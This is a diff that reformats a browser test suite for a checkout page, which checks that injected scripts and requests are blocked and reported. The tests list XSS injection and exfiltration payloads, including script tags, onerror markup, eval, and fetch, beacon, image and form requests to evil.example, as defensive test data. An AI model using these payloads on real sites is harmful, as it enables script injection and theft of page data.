@@ -74,7 +74,10 @@ describe('the page of a checkout', { skip: await chromiumIsMissing() }, async ()
       const { url } = server.open({
         merchant: { name: text, supportEmail: text, supportUrl: text },
         lines: [{ ...lines[0]!, name: text, description: text }],
-        asks: { ...fullAsks, customFields: [{ ...fullAsks.customFields[0]!, label: text, value: text }] },
+        asks: {
+          ...fullAsks,
+          customFields: [{ ...fullAsks.customFields[0]!, label: text, value: text }],
+        },
         known: { ...known, email: text, name: text },
         texts: { submit: text, afterSubmit: text, shippingAddress: text, terms: text },
       });
@@ -90,39 +93,67 @@ describe('the page of a checkout', { skip: await chromiumIsMissing() }, async ()
           urls: { ...view.urls, success: link, cancel: link, recover: link },
         });
         await page.goto(url);
-        const hrefs = (await page.evaluate('[...document.querySelectorAll("a")].map((a) => a.protocol)')) as readonly string[];
-        assert.deepEqual(hrefs.filter((protocol) => !/^(https?|mailto):$/.test(protocol)), [], link);
+        const hrefs = (await page.evaluate(
+          '[...document.querySelectorAll("a")].map((a) => a.protocol)',
+        )) as readonly string[];
+        assert.deepEqual(
+          hrefs.filter((protocol) => !/^(https?|mailto):$/.test(protocol)),
+          [],
+          link,
+        );
         assert.equal(await hasRun(), false, link);
       }
     }
-    assert.deepEqual(asked.filter((url) => /evil|x\.example/.test(url)), []);
+    assert.deepEqual(
+      asked.filter((url) => /evil|x\.example/.test(url)),
+      [],
+    );
   });
 
   test('blocks what gets into the page in spite of it, and hears of each', async () => {
     const wanted: readonly (readonly [name: string, how: string])[] = [
-      ['an element', `const s=document.createElement('script');s.text='${run}';document.head.append(s)`],
-      ['a source', `const s=document.createElement('script');s.src='https://evil.example/x.js';document.head.append(s)`],
+      [
+        'an element',
+        `const s=document.createElement('script');s.text='${run}';document.head.append(s)`,
+      ],
+      [
+        'a source',
+        `const s=document.createElement('script');s.src='https://evil.example/x.js';document.head.append(s)`,
+      ],
       ['a handler', `document.body.setAttribute('onclick','${run}');document.body.click()`],
       ['markup', `document.body.innerHTML='<img src=x onerror=${run}>'`],
       ['eval', `eval('${run}')`],
       ['a function', `new Function('${run}')()`],
       ['a timer', `setTimeout('${run}',0)`],
-      ['a frame', `const f=document.createElement('iframe');f.src='https://evil.example/';document.body.append(f)`],
+      [
+        'a frame',
+        `const f=document.createElement('iframe');f.src='https://evil.example/';document.body.append(f)`,
+      ],
       ['an image', `new Image().src='https://evil.example/?'+document.title`],
       ['a request', `fetch('https://evil.example/').catch(()=>{})`],
       ['a beacon', `navigator.sendBeacon('https://evil.example/','x')`],
-      ['a form', `const f=document.createElement('form');f.action='https://evil.example/';document.body.append(f);f.submit()`],
-      ['a base', `const b=document.createElement('base');b.href='https://evil.example/';document.head.append(b)`],
+      [
+        'a form',
+        `const f=document.createElement('form');f.action='https://evil.example/';document.body.append(f);f.submit()`,
+      ],
+      [
+        'a base',
+        `const b=document.createElement('base');b.href='https://evil.example/';document.head.append(b)`,
+      ],
     ];
     for (const [name, how] of wanted) {
       await page.goto(server.open().url);
       const before = server.reports.length;
       await page.evaluate(`try { (() => { ${how} })() } catch {}`);
-      for (let wait = 0; wait < 200 && server.reports.length === before; wait += 1) await page.waitForTimeout(50);
+      for (let wait = 0; wait < 200 && server.reports.length === before; wait += 1)
+        await page.waitForTimeout(50);
       assert.ok(server.reports.length > before, `${name} was reported`);
       assert.equal(await hasRun(), false, name);
     }
-    assert.deepEqual(asked.filter((url) => url.includes('evil')), []);
+    assert.deepEqual(
+      asked.filter((url) => url.includes('evil')),
+      [],
+    );
   });
 
   test('charges what the server knows, whatever a browser makes of the form', async () => {
@@ -138,6 +169,9 @@ describe('the page of a checkout', { skip: await chromiumIsMissing() }, async ()
     await page.getByRole('heading', { name: 'Payment successful' }).waitFor();
     // The page sends what it was made to say, and it is for the server to refuse it: no field names a price.
     const names = [...(session.posted[0]?.keys() ?? [])];
-    assert.deepEqual(names.filter((name) => /amount|price|currency/.test(name)), ['expected_amount']);
+    assert.deepEqual(
+      names.filter((name) => /amount|price|currency/.test(name)),
+      ['expected_amount'],
+    );
   });
 });
